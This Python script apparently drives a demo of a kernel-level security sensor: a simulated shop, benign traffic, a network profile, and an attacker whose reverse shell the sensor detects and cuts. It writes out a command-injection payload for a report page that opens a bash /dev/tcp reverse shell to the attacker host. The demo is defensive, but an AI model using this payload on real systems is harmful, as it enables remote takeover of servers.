# SPDX-License-Identifier: Apache-2.0
"""The story on a real kernel: let the scene run, attack, watch the cut, draw the balance.

What the report says is taken from the topics (observer.py), from the attacker's own log and from the
client's own counts. On a busy machine the cut may come before the attacker's shell has opened: that is
a good cut, but none that can be seen to silence anything, so the attacker tries again, a bounded number
of times, and each attack is accounted for by itself (attack.py).
"""

from __future__ import annotations

import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

from demo.attack import Attack, account, boot_to_wall_ns, times_of
from demo.observer import Observer
from demo.recording import save
from demo.report import Report
from demo.scene import ADDRESSES, ATTACKER_NAME, FIRST_SHELL_PORT, Reader, Scene
from stream_apps.correlate.ledger import LossLedger

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping, Sequence

    from demo.screen import Screen

BENIGN_S = 4.0
SILENCE_S = 3.0
# Rarely does one attack in several lose its shell to the cut, even with every core busy. Eight in a row
# would mean that shells do not open here at all, which is to be said, not to be waited for.
MAX_ATTACKS = 8
SETTLE_S = 1.0  # after a cut: what arrived before it has been read by the attacker
CUT_TIMEOUT_S = 30.0
RULE = "nsp.rce-egress"
VISITS = 500
QUIET_S = 1.0  # no further batch for so long: everything sent has been read


class Story:
    """One run; ``play`` tells it once and returns the report."""

    def __init__(self, screen: Screen, build: Path) -> None:
        """Plan a run that writes under ``build``."""
        self._screen = screen
        self._build = build
        self._scene = Scene(build / "logs")
        self._attempts = 0
        self._subjects: list[str] = []  # the process tree that was cut, of each attack

    def play(self) -> Report:
        """Tell the story.

        Raises:
            DemoError: a part did not start, ended early or did not end.
        """
        with self._scene as scene:
            self._start_pipeline()
            names = {pod.uid: name for name, pod in scene.pods.items()}
            with Observer(scene.brokers, names) as observer:
                self._screen.step("starting a name server, the shop, its customer and the attacker's host")
                customer = scene.start_shop(observer)
                attacker = scene.start_attacker()
                self._benign(observer, customer)
                tried = self._profile(observer)
                if self._attack_until_a_shell_opens(observer, attacker):
                    self._silence(observer, customer)
                scene.end("workload client")
                self._end_sensor(observer)
                self._record(observer)
                attacks = accounts(observer, self._subjects, attacker)
                return balance(observer, attacks, self._attempts, customer, tried)

    def _start_pipeline(self) -> None:
        scene, say = self._scene, self._screen.step
        say("starting the embedded broker (librdkafka's mock cluster: one broker, in memory)")
        scene.start_embedded_broker()
        scene.prepare()
        say("starting the stream app (Faust): correlate, detect, respond")
        scene.start_stream()
        say("starting the sensor: compile, load, attach, pin (a few seconds)")
        scene.start_sensor()
        scene.wait_until_sensor_is_healthy()
        scene.wait_until_stream_is_healthy()

    def _benign(self, observer: Observer, customer: Reader) -> None:
        self._screen.step("benign traffic: the customer uses the shop; its report page even starts shells")
        self._show_for(observer, BENIGN_S)
        last = customer.lines[-1]
        alerts = len(observer.read().alerts)
        self._screen.step(
            f"{last['requests']} requests, {last['failed']} failed, {alerts} alerts: all is well"
        )

    def _profile(self, observer: Observer) -> Mapping[str, Any]:
        """Put a profile in force and have somebody in its pod try it; returns what came of it."""
        self._screen.step(
            "a SecurityProfile for the customer's pod: ask for the shop, reach it, nothing else"
        )
        for line in self._scene.apply_profile().splitlines():
            self._screen.step(f"  nsp apply: {line}")
        tried = self._scene.visit(VISITS)
        self._show_for(observer, SETTLE_S)
        self._screen.step(
            f"{tried['resolved_and_reached']} times the shop's name was asked and its answer connected to at "
            f"once: {tried['wrongly_refused']} wrongly refused",
            "bold green",
        )
        self._screen.step(
            f"the pod asked for {ATTACKER_NAME}: {tried['other_name']}; it dialled {ADDRESSES['attacker']}: "
            f"{tried['other_address']}",
            "bold green",
        )
        return tried

    def _attack_until_a_shell_opens(self, observer: Observer, attacker: Reader) -> bool:
        command = f"bash -c 'bash -i >& /dev/tcp/{ATTACKER_NAME}/{FIRST_SHELL_PORT} 0>&1'"
        self._screen.step("the attacker sends one request to the report page:", "bold red")
        self._screen.step(f"  /report?title=x; ({command} &)", "red")
        self._screen.focus = "web"
        while True:
            self._attack(observer, attacker)
            self._show_for(observer, SETTLE_S)
            if accounts(observer, self._subjects, attacker)[-1].shell_opened:
                return True
            self._screen.step("the cut came before the shell had opened: there is nothing to go silent")
            if self._attempts == MAX_ATTACKS:
                return False
            self._screen.step(f"the attacker tries again (attack {self._attempts + 1})", "bold red")

    def _attack(self, observer: Observer, attacker: Reader) -> None:
        self._attempts += 1
        attacker.tell("go")
        self._show_until(observer, "an alert", lambda: self._new_alert(observer) is not None)
        alert = self._new_alert(observer) or {}
        subject = alert["response"]["subject"]
        found = f"DETECTED  {alert['rule_id']} {alert['severity']}: {alert['description']}"
        self._screen.step(found, "bold yellow")
        self._screen.process_tree(alert["lineage"])
        self._show_until(observer, "the cut", lambda: observer.status("APPLIED", subject) is not None)
        applied = observer.status("APPLIED", subject) or {}
        self._screen.step(
            f"CUT       written to the kernel: {applied['processes']} processes, {applied['sockets']} open "
            "sockets; the shop's own process is not among them",
            "bold green",
        )
        self._show_until(observer, "a refusal", lambda: observer.status("FIRST_REFUSAL", subject) is not None)
        self._subjects.append(subject)
        self._screen.times(accounts(observer, self._subjects, attacker)[-1].times)

    def _new_alert(self, observer: Observer) -> dict[str, Any] | None:
        """Return the alert about the shop whose process tree no attack before had, or None."""
        shop = self._scene.pods["web"].uid
        for alert in observer.alerts(RULE):
            subject = alert["response"]["subject"]
            if alert["workload"]["id"] == shop and subject and subject not in self._subjects:
                return alert
        return None

    def _silence(self, observer: Observer, customer: Reader) -> None:
        before = customer.lines[-1]["requests"]
        self._screen.step("the attacker keeps typing into the open shell, the implant keeps dialling ...")
        self._show_for(observer, SILENCE_S)
        last = customer.lines[-1]
        served = last["requests"] - before
        self._screen.step(
            f"... and gets nothing; the shop answered {served} more requests, {last['failed']} failed"
        )

    def _show_for(self, observer: Observer, seconds: float) -> None:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            self._tick(observer)

    def _show_until(self, observer: Observer, what: str, condition: Callable[[], bool]) -> None:
        def shown() -> bool:
            self._tick(observer)
            return condition()

        self._scene.wait(what, shown, CUT_TIMEOUT_S)

    def _tick(self, observer: Observer) -> None:
        self._screen.events(observer.take_lines())
        seen = observer.read()
        self._screen.facts(f"{seen.events} events, {len(seen.alerts)} alerts, {seen.refusals} refusals")
        time.sleep(0.02)

    def _end_sensor(self, observer: Observer) -> None:
        self._screen.step("stopping the sensor: it drains the ring; enforcement would stay in the kernel")
        self._scene.end("sensor")
        wait_until_quiet(observer)

    def _record(self, observer: Observer) -> None:
        path = self._build / "recording.avro.gz"
        workloads = frozenset(pod.uid for pod in self._scene.pods.values())
        size = save(path, observer.read().batches, workloads, Path(__file__).parent.parent)
        self._screen.step(f"recorded the run's events: {path} ({size // 1024} KiB)")


def wait_until_quiet(observer: Observer) -> None:
    """Wait until nothing new has been read for a while."""
    quiet_since, count = time.monotonic(), -1
    while time.monotonic() - quiet_since < QUIET_S:
        if observer.read().events != count:
            quiet_since, count = time.monotonic(), observer.read().events
        time.sleep(0.05)


def accounts(observer: Observer, subjects: Sequence[str], attacker: Reader) -> list[Attack]:
    """Return each attack's account so far, in order; ``subjects`` are the process trees that were cut."""
    boot_to_wall, lines, found = boot_to_wall_ns(), list(attacker.lines), []
    for number, subject in enumerate(subjects, 1):
        applied = observer.status("APPLIED", subject) or {}
        refused = observer.status("FIRST_REFUSAL", subject) or {}
        times = times_of(applied, refused, boot_to_wall)
        found.append(account(number, times, lines, boot_to_wall))
    return found


def balance(
    observer: Observer,
    attacks: Sequence[Attack],
    attempts: int,
    customer: Reader,
    tried: Mapping[str, Any],
) -> Report:
    """Return the report of a run that has ended."""
    seen = observer.read()
    ledger = LossLedger()
    for batch in seen.batches:
        ledger.add(batch)
    totals = ledger.totals()
    times = next((each for each in attacks if each.shell_opened), attacks[-1]).times
    return Report(
        alerts=len(seen.alerts),
        rules=sorted({alert["rule_id"] for alert in seen.alerts.values()}),
        attacks=attempts,
        attacks_cut=len(attacks),
        shells_opened=sum(each.shell_opened for each in attacks),
        time_to_block_ms=times.after_first_ms(times.map_written_ns),
        decided_after_ms=times.after_first_ms(times.decided_ns),
        first_refused_after_ms=times.after_first_ms(times.first_refused_ns),
        service_requests=customer.lines[-1]["requests"],
        service_requests_failed=customer.lines[-1]["failed"],
        attacker_bytes_before_block=sum(each.bytes_before_block for each in attacks),
        attacker_bytes_after_block=sum(each.bytes_after_block for each in attacks),
        attacker_beacons_after_block=sum(each.beacons_after_block for each in attacks),
        profile_reached=tried["resolved_and_reached"],
        profile_wrongly_refused=tried["wrongly_refused"],
        profile_refused=[tried["other_name"], tried["other_address"]],
        events_produced=totals.produced,
        events_seen=totals.seen,
        events_counted_lost=totals.lost,
        events_unaccounted=totals.unaccounted,
        recorded=False,
    )
